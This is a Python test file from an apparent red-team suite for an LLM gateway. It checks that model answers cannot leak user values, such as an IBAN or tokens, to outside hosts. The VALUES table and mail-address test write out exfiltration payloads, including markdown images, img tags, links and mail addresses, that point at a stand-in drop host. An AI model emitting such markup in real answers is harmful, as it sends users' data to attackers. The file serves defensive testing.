"""Nothing gets out by an answer, of composed attacks or by values that are markup."""

import json
import re

import pytest

from douane.jobs.redteam.run.outcome import OTHER_SESSION, Hit, Outcome
from douane.jobs.redteam.sinks.judge import held
from douane.jobs.redteam.sinks.resolver import addresses
from douane.jobs.redteam.sinks.widget import bodies
from douane.jobs.redteam.suite.attack import Attack
from douane.jobs.redteam.suite.build import suite
from tests.attack.conftest import Stage
from tests.attack.malicious import attempt
from tests.attack.parties import ACCOUNT, ANNA, APP, TOKENS, protect, reader
from tests.simulators.border import TIER
from tests.simulators.endpoint import Script, always


def out(outcome: Outcome) -> list[Hit]:
    """Return what got out by the answer itself.

    What an endpoint remembers and says to somebody else is no matter of answers: see
    ``docs/answers.md``.
    """
    return [hit for hit in outcome.hits if hit.sink != OTHER_SESSION]


def tried(stage: Stage, attack: Attack) -> Outcome:
    border, run = stage
    border.renew()
    _, outcome, _ = run(attempt(border, attack))
    assert not outcome.failed
    return outcome  # type: ignore[no-any-return]


def test_nothing_of_composed_attacks_gets_out(stage: Stage) -> None:
    attacks = suite(2, 100, ["composed"])

    leaks = {each.name: out(tried(stage, each)) for each in attacks}

    assert {name: hits for name, hits in leaks.items() if hits} == {}


MARKUP = ("![x](https://a1.drop.example.net/x?d=", ")")
VALUES = {
    "an image that a value opens": MARKUP,
    "a tag that a value opens": ("<img src='https://a1.drop.example.net/x?d=", "'>"),
    "an address that a value is": ("https://a1.drop.example.net/x?d=", "&e=1"),
    "a reference that a value defines": ("\n\n[r]: https://a1.drop.example.net/x?d=", "\n\n![r]"),
}


@pytest.mark.parametrize("values", VALUES)
def test_values_that_are_markup_do_not_open_a_channel_when_they_are_put_back(
    stage: Stage, values: str
) -> None:
    border, run = stage
    before, after = VALUES[values]
    word = "kelmar-tunsol-brindel"

    async def asked() -> str:
        border.renew()
        vars(border.endpoint).pop("open", None)
        opened = {**ACCOUNT, "Name": before, "Phone": after}
        scope, away = await protect(border, opened, scope="markup")
        border.endpoint.script = Script(always(f"See {away['Name']}{word}{away['Phone']} now."))
        body = {
            "model": TIER, "metadata": {"scope": "markup"},
            "messages": [{"role": "user", "content": f"The word is {word}. {scope}"}],
        }  # fmt: skip
        reply = await border.post("/v1/chat/completions", body, APP, reader(border, ANNA))
        return reply.said()

    said = run(asked())

    assert [url for body in bodies(said) for url in addresses(body) if held(word, url)] == []


def test_a_mail_address_carries_no_value_to_anothers_host(stage: Stage) -> None:
    border, run = stage
    iban = "DE05100500000628367128"

    async def asked() -> str:
        border.renew()
        vars(border.endpoint).pop("open", None)
        border.endpoint.script = Script(
            lambda body: " ".join(
                f"Write to {token}@mail.a1.drop.example.net or <{token}@a1.drop.example.net>."
                for token in re.findall(TOKENS, json.dumps(body))
            )
        )
        body = {
            "model": TIER, "messages": [{"role": "user", "content": f"Pay to {iban} today."}],
        }  # fmt: skip
        reply = await border.post("/v1/chat/completions", body, APP, reader(border, ANNA))
        return reply.said()

    said = run(asked())

    assert "Write to" in said
    assert [url for body in bodies(said) for url in addresses(body) if held(iban, url)] == []
